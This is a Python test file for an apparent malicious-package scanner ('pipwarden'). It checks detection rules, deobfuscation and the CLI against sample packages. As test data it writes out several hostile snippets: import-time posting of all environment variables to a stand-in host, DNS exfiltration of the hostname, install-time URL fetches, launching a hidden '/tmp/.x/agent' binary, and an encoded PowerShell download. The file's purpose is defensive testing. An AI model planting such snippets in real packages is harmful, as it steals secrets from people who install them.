"""Code checks (PW1xx): every rule held to a malicious and a benign sample, plus the engine's
context, flow and deobfuscation behaviour, and the CLI end to end.

Samples live in tests/samples/<ID>/{malicious,benign}/ as ``.txt`` files (so no linter, IDE or
importer treats them as code); they are packed into an sdist (or a wheel when the rule is about
wheels) in a temporary directory and scanned, never run.
"""

from __future__ import annotations

import ast
import json
import subprocess
import sys
from pathlib import Path

import pytest

from pipwarden import analyze
from pipwarden.archive import read_archive
from pipwarden.checks.base import MemberContext, all_checks, get_check
from pipwarden.checks.code.facts import ModuleFacts
from pipwarden.checks.code.shared import facts_for
from pipwarden.deobfuscate import Evaluator, decode_literal, powershell_encoded
from pipwarden.models import Artifact, Finding, PackageRef, Severity
from tests.builders import make_sdist, make_wheel

SAMPLES = Path(__file__).parent / "samples"
CODE_IDS = sorted(c.id for c in all_checks() if c.id.startswith("PW1"))


def _files(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder))[: -len(".txt")]: p.read_bytes() for p in folder.rglob("*.txt")}


def _build(check_id: str, side: str, tmp: Path) -> Path:
    folder = SAMPLES / check_id / side
    files = _files(folder)
    kind_file = SAMPLES / check_id / "kind"
    kind = kind_file.read_text().strip() if kind_file.exists() else "sdist"
    if kind == "wheel":
        extra = {k: v for k, v in files.items() if k == "entry_points.txt"}
        body = {k: v for k, v in files.items() if k != "entry_points.txt"}
        return make_wheel(tmp, "demo", "1.0", body, extra_dist_info=extra)
    setup_py = files.pop("setup.py", None)
    return make_sdist(tmp, "demo", "1.0", files,
                      setup_py=setup_py.decode() if setup_py is not None else
                      "from setuptools import setup\nsetup(name='demo', version='1.0')\n")


def _scan(path: Path) -> list[Finding]:
    archive = read_archive(path)
    _, findings = analyze.analyze_archive(archive, Artifact(path.name, path=path), PackageRef("demo", path=path))
    return findings


def test_every_code_check_has_both_samples() -> None:
    assert CODE_IDS, "no code checks registered"
    for cid in CODE_IDS:
        assert (SAMPLES / cid / "malicious").is_dir(), f"{cid} has no malicious sample"
        assert (SAMPLES / cid / "benign").is_dir(), f"{cid} has no benign sample"


@pytest.mark.parametrize("side", ["malicious", "benign"])
@pytest.mark.parametrize("check_id", CODE_IDS)
def test_rule_against_its_samples(check_id: str, side: str, tmp_path: Path) -> None:
    """The malicious sample raises the rule at medium or above (at its own severity for rules that
    are low by design); the benign sample does not raise it at medium or above."""
    check = get_check(check_id)
    assert check is not None and check.__doc__, f"{check_id} needs a docstring"
    findings = [f for f in _scan(_build(check_id, side, tmp_path)) if f.id == check_id]
    floor = min(Severity.MEDIUM, check.severity)
    if side == "malicious":
        assert any(f.severity >= floor for f in findings), f"{check_id} missed its malicious sample: {findings}"
        hit = max(findings, key=lambda f: f.severity)
        assert hit.file and hit.evidence, "findings carry file and evidence"
    else:
        loud = [f for f in findings if f.severity >= floor and f.severity >= Severity.MEDIUM]
        assert not loud, f"{check_id} flags its benign sample: {loud}"


def _facts(source: str, role: str = "module", path: str = "demo/mod.py") -> ModuleFacts:
    ctx = MemberContext(path=path, data=source.encode(), role=role, artifact_kind="sdist")  # type: ignore[arg-type]
    facts = facts_for(ctx)
    assert facts is not None
    return facts


def test_context_install_import_function() -> None:
    setup = _facts(
        "import subprocess\nfrom setuptools.command.install import install\n"
        "def helper():\n    subprocess.call(['x'])\n"
        "class I(install):\n    def run(self):\n        helper()\n"
        "def unused():\n    subprocess.call(['y'])\n",
        role="setup", path="setup.py")
    ctxs = {c.strings[0]: c.ctx for c in setup.calls if c.name == "subprocess.call"}
    assert ctxs == {"x": "install", "y": "function"}
    module = _facts("import os\nos.system('a')\ndef f():\n    os.system('b')\nif __name__ == '__main__':\n"
                    "    os.system('c')\n")
    assert {c.strings[0]: c.ctx for c in module.calls if c.name == "os.system"} == {
        "a": "import", "b": "function", "c": "main"}


def test_taint_flows_through_assignments_and_helpers() -> None:
    facts = _facts(
        "import socket, requests\n"
        "def info():\n    return {'h': socket.gethostname()}\n"
        "def go():\n    data = info()\n    payload = str(data)\n    requests.post('https://x.example', data=payload)\n")
    post = next(c for c in facts.calls if c.name == "requests.post")
    assert "host" in post.taint


def test_env_in_a_function_is_configuration_not_exfiltration(tmp_path: Path) -> None:
    path = make_sdist(tmp_path, "demo", "1.0", {"demo/__init__.py": (
        "import os, requests\ndef get():\n    return requests.get(os.environ['API_URL'], timeout=5)\n")})
    assert not [f for f in _scan(path) if f.id == "PW130"]


def test_same_exfiltration_at_import_time_blocks(tmp_path: Path) -> None:
    path = make_sdist(tmp_path, "demo", "1.0", {"demo/__init__.py": (
        "import os, requests\nrequests.post('https://x.example/c', data=dict(os.environ))\n")})
    hits = [f for f in _scan(path) if f.id == "PW130"]
    assert hits and max(f.severity for f in hits) >= Severity.HIGH


def test_multi_layer_payload_names_its_layer(tmp_path: Path) -> None:
    malicious = (SAMPLES / "PW103" / "malicious" / "demo" / "__init__.py.txt").read_text()
    path = make_sdist(tmp_path, "demo", "1.0", {"demo/__init__.py": malicious})
    findings = _scan(path)
    layered = [f for f in findings if "decoded layer 1: base64 → zlib" in f.message]
    assert layered, [f.message for f in findings]
    # The payload inside the layer (curl | sh) is itself found, at the outer file's line.
    assert any(f.id == "PW121" and f.line == 2 for f in layered)


def test_evaluator_folds_common_obfuscations() -> None:
    def ev(src: str) -> tuple[object, list[str]] | None:
        tree = ast.parse(src)
        consts = {n.targets[0].id: n.value for n in tree.body[:-1] if isinstance(n, ast.Assign)
                  and isinstance(n.targets[0], ast.Name)}
        last = tree.body[-1]
        assert isinstance(last, ast.Expr)
        return Evaluator(consts, lambda node: ast.unparse(node)).evaluate(last.value)

    assert ev("''.join(chr(c) for c in [105, 109, 112, 111, 114, 116])") == ("import", ["join"])
    assert ev("'tropmi'[::-1]") == ("import", ["reversed"])
    got = ev("codecs.decode('vzcbeg bf', 'rot13')")
    assert got is not None and got[0] == "import os" and got[1] == ["rot13"]
    got = ev("k = 7\nbytes([b ^ k for b in [110, 106, 119, 104, 117, 115]])")
    assert got is not None and got[0] == b"import"
    assert ev("open('x').read()") is None


def test_decode_literal_and_powershell() -> None:
    import base64
    import zlib

    code = "import os, socket\nname = socket.gethostname()\nos.system('id > /tmp/' + name + '.txt')\nprint(name)\n"
    blob = base64.b64encode(zlib.compress(code.encode())).decode()
    got = decode_literal(blob)
    assert got is not None and got[1] == ["base64", "zlib"] and "os.system" in got[0]
    assert decode_literal("A" * 200) is None
    enc = base64.b64encode("iwr http://x".encode("utf-16-le")).decode()
    assert powershell_encoded(f"powershell -enc {enc}") == "iwr http://x"


def test_prefilter_skips_inert_modules() -> None:
    ctx = MemberContext(path="demo/x.py", data=b"def add(a, b):\n    return a + b\n", role="module",
                        artifact_kind="sdist")
    assert facts_for(ctx) is None


def test_setup_imported_local_module_is_install_time(tmp_path: Path) -> None:
    path = make_sdist(tmp_path, "demo", "1.0", {"helpers.py": "import urllib.request\n"
                                                "urllib.request.urlopen('https://x.example/p')\n"},
                      setup_py="import helpers\nfrom setuptools import setup\nsetup(name='demo', version='1.0')\n")
    hits = [f for f in _scan(path) if f.id == "PW102"]
    assert hits and hits[0].file is not None and hits[0].file.endswith("helpers.py")


def test_cli_blocks_an_install_time_probe(tmp_path: Path) -> None:
    path = _build("PW130", "malicious", tmp_path)
    proc = subprocess.run([sys.executable, "-m", "pipwarden", "scan", str(path), "--offline", "--format", "json"],
                          capture_output=True, text=True, timeout=120, check=False)
    assert proc.returncode == 1, proc.stderr
    pkg = json.loads(proc.stdout)["packages"][0]
    assert pkg["verdict"] == "block"
    ids = {f["id"] for f in pkg["findings"]}
    assert {"PW130", "PW102"} <= ids
    exfil = next(f for f in pkg["findings"] if f["id"] == "PW130")
    assert exfil["file"].endswith("setup.py") and exfil["line"] == 12 and "requests.post" in exfil["evidence"]


def test_cli_passes_the_benign_sample(tmp_path: Path) -> None:
    path = _build("PW130", "benign", tmp_path)
    proc = subprocess.run([sys.executable, "-m", "pipwarden", "scan", str(path), "--offline", "--format", "json"],
                          capture_output=True, text=True, timeout=120, check=False)
    pkg = json.loads(proc.stdout)["packages"][0]
    assert not [f for f in pkg["findings"] if f["id"].startswith("PW1") and f["severity"] in ("high", "critical")]


def test_code_in_files_nobody_imports_is_capped_at_low(tmp_path: Path) -> None:
    """A maintainer script in a non-package folder of an sdist runs only by hand: capped at low.
    The same code inside the package is reported at full severity."""
    code = "import subprocess\nsubprocess.Popen(['/tmp/.x/agent'])\n"
    outside = make_sdist(tmp_path, "demo", "1.0", {"maint/fetch.py": code, "demo/__init__.py": ""})
    hits = [f for f in _scan(outside) if f.id == "PW110"]
    assert hits and all(f.severity == Severity.LOW and "capped at low" in f.message for f in hits)
    (tmp_path / "in").mkdir()
    inside = make_sdist(tmp_path / "in", "demo", "1.0", {"demo/agent.py": code, "demo/__init__.py": ""})
    assert any(f.id == "PW110" and f.severity == Severity.MEDIUM for f in _scan(inside))


def test_helper_folders_in_a_package_and_script_folders_are_dormant(tmp_path: Path) -> None:
    """A folder without ``__init__.py`` inside a package (sources, helpers: ``pkg/_src/x86/bench.py``) and a
    ``scripts/`` folder without ``__init__.py`` run only by hand, even when the build config
    happens to mention the folder's name in a string."""
    code = "import subprocess\nsubprocess.Popen(['/tmp/.x/agent'])\n"
    setup_py = "import os\nfrom setuptools import setup\nREADME = os.path.join('scripts', 'readme.py')\nsetup()\n"
    files = {"demo/__init__.py": "", "demo/_src/x86-simd/run-bench.py": code, "scripts/internal/fetch.py": code,
             "demo/_tests/check.py": code}
    hits = [f for f in _scan(make_sdist(tmp_path, "demo", "1.0", files, setup_py=setup_py)) if f.id == "PW110"]
    assert {f.file.split("/", 1)[1] for f in hits} <= set(files)
    assert hits and all(f.severity <= Severity.LOW for f in hits), hits


def test_own_name_in_a_local_zone_is_not_dns_exfiltration(tmp_path: Path) -> None:
    """``gethostbyname_ex(gethostname() + '.local')`` finds the machine's addresses; the same name
    under an internet zone is data smuggled out."""
    local = "import socket\n\ndef ips():\n    return socket.gethostbyname_ex(socket.gethostname() + '.local')[2]\n"
    remote = local.replace("'.local'", "'.x.example.net'")
    sdist = make_sdist(tmp_path, "demo", "1.0", {"demo/__init__.py": "", "demo/net.py": local})
    assert not [f for f in _scan(sdist) if f.id == "PW133"]
    (tmp_path / "r").mkdir()
    sdist = make_sdist(tmp_path / "r", "demo", "1.0", {"demo/__init__.py": "", "demo/net.py": remote})
    assert [f for f in _scan(sdist) if f.id == "PW133" and f.severity >= Severity.HIGH]
